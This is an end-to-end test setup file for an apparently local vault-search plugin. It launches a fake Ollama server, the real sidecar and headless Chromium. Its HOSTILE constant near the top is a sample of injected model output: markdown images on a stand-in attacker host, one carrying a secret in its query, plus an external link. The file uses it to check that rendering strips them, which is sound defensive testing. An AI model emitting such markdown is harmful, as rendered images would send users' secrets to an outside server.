// The e2e run's world, shared by every *.e2e.test.mjs: the fake Ollama's answers, the REAL sidecar (`askvault
// serve`) with its token, the static page server and headless Chromium with the plugin booted; `useE2E` sets them
// up before a file's tests and tears them down after, so each file runs on its own.
import assert from "node:assert/strict";
import { mkdir } from "node:fs/promises";
import path from "node:path";
import { after, before } from "node:test";
import { chromium } from "playwright-core";
import {
	CHROMIUM,
	copyVault,
	freePort,
	Proc,
	REPO_DIR,
	removeDir,
	run,
	SCREENSHOTS,
	startStaticServer,
	tempDir,
	VENV_DIR,
	waitFor,
} from "./lib.mjs";
import { harness } from "./page.mjs";

export const ANSWER =
	"Postgres listens on port 5433 on the host [1]. Backups of the database run nightly at 02:00 and are kept " +
	"for thirty days [2]. The container maps the port from 5432 inside, and the password lives in the password " +
	"manager [1]. Restores are tested every quarter on a scratch container [2].";
export const LAST_WORD = "container [2].";
// What a hostile note could get a model to write: remote images (one carrying a secret in its query, one whose
// alt text spans several streamed tokens) and an external link.
export const HOSTILE =
	"Postgres listens on port 5433 [1]. ![x](https://evil.example/p.png?q=secret) A diagram: " +
	"![a diagram of the port map](https://evil.example/d.png) and [site](https://evil.example) say more [2].";
export const HOSTILE_SHOWN =
	"Postgres listens on port 5433 [1]. [image removed: evil.example] A diagram: [image removed: evil.example] " +
	"and site (https://evil.example) say more [2].";
export const PYTHON = path.join(VENV_DIR, "bin", "python");
export const ASKVAULT = path.join(VENV_DIR, "bin", "askvault");

/** What the run holds (temp folder, vault, static server, fake Ollama, sidecar, token, browser, page), set by `useE2E`. */
export const env = {};

export function sidecarArgs({ dataDir = env.dataDir, port = env.port, ollamaUrl = env.ollamaUrl, extra = [] } = {}) {
	return [
		"serve",
		"--vault",
		env.vault,
		"--data-dir",
		dataDir,
		"--port",
		String(port),
		"--ollama-url",
		ollamaUrl,
		"--embed-model",
		"all-minilm",
		"--chat-model",
		"llama3.2:3b",
		"--allow-origin",
		env.static.origin,
		...extra,
	];
}

export async function startSidecar(options = {}, name = "sidecar") {
	const proc = new Proc(name, ASKVAULT, sidecarArgs(options), { logDir: env.tmp });
	const url = `http://127.0.0.1:${options.port ?? env.port}`;
	await waitFor(
		"the sidecar's /api/health",
		async () => {
			if (!proc.running) throw new Error(`askvault serve exited:\n${proc.tail()}`);
			const res = await fetch(`${url}/api/health`);
			return res.ok && (await res.json()).ok === true;
		},
		60_000,
	);
	return proc;
}

export async function sidecarStatus(url = env.sidecarUrl, token = env.token) {
	const res = await fetch(`${url}/api/status`, { headers: { Authorization: `Bearer ${token}` } });
	if (!res.ok) throw new Error(`status ${res.status}`);
	return res.json();
}

/** The fake Ollama (answering ANSWER) and the sidecar in front of it, with its token, once the first index run is done. */
async function startMainSidecar() {
	env.ollama = new Proc(
		"fake-ollama",
		PYTHON,
		["-m", "tests.fakes.ollama_server", "--port", "0", "--token-delay", "0.05", "--answer", ANSWER],
		{ cwd: REPO_DIR, logDir: env.tmp },
	);
	env.ollamaUrl = (await env.ollama.waitForLine(/^READY (\S+)/))[1];
	env.port = await freePort();
	env.sidecarUrl = `http://127.0.0.1:${env.port}`;
	env.sidecar = await startSidecar();
	const tokenOut = await run(ASKVAULT, ["token", "--vault", env.vault, "--data-dir", env.dataDir]);
	env.token = tokenOut.trim().split("\n").pop().trim();
	assert.match(env.token, /^\S{16,}$/, "askvault token printed a token");
	await waitFor(
		"the first index run",
		async () => {
			const s = await sidecarStatus();
			return s.index.state === "idle" && s.vault.notes >= 5 ? s : null;
		},
		60_000,
	);
}

/** Headless Chromium; with a sidecar, its first page loads the e2e harness and boots the plugin against it. */
/** Headless Chromium's flags for every run: no sandbox (containers), no GPU, nothing fetched in the background. */
export const CHROMIUM_ARGS = [
	"--headless",
	"--no-sandbox",
	"--disable-gpu",
	"--no-first-run",
	"--disable-background-networking",
	"--disable-component-update",
	"--disable-sync",
	"--disable-dev-shm-usage",
];

async function launchBrowser(boot) {
	env.browser = await chromium.launchPersistentContext(path.join(env.tmp, "profile"), {
		executablePath: CHROMIUM,
		headless: true,
		viewport: { width: 1280, height: 860 },
		args: CHROMIUM_ARGS,
	});
	env.pageErrors = [];
	env.page = env.browser.pages()[0] ?? (await env.browser.newPage());
	env.page.on("pageerror", (e) => env.pageErrors.push(String(e)));
	if (!boot) return;
	await env.page.goto(`${env.static.origin}/`);
	await harness(env.page, (o) => window.askVaultHarness.boot(o), { sidecarUrl: env.sidecarUrl, token: env.token });
}

/**
 * Registers the file's set-up and tear-down. `sidecar: false` skips the fake Ollama and sidecar (a file that brings
 * its own); `browser: false` skips Chromium. Tear-down also fails the file if its page threw an uncaught error.
 */
export function useE2E({ sidecar = true, browser = true } = {}) {
	before(async () => {
		env.tmp = await tempDir("ask-vault-e2e-");
		await mkdir(SCREENSHOTS, { recursive: true });
		env.vault = await copyVault(env.tmp);
		env.dataDir = path.join(env.tmp, "data");
		env.static = await startStaticServer();
		if (sidecar) await startMainSidecar();
		if (browser) await launchBrowser(sidecar);
	});

	after(async () => {
		await env.browser?.close().catch(() => undefined);
		await env.sidecar?.stop();
		await env.ollama?.stop();
		env.static?.server.close();
		if (process.exitCode && env.tmp) {
			console.error(`sidecar log tail:\n${env.sidecar?.tail(30) ?? ""}`);
		}
		await removeDir(env.tmp);
		if (env.page) assert.deepEqual(env.pageErrors, [], "no uncaught errors in the page");
	});
}
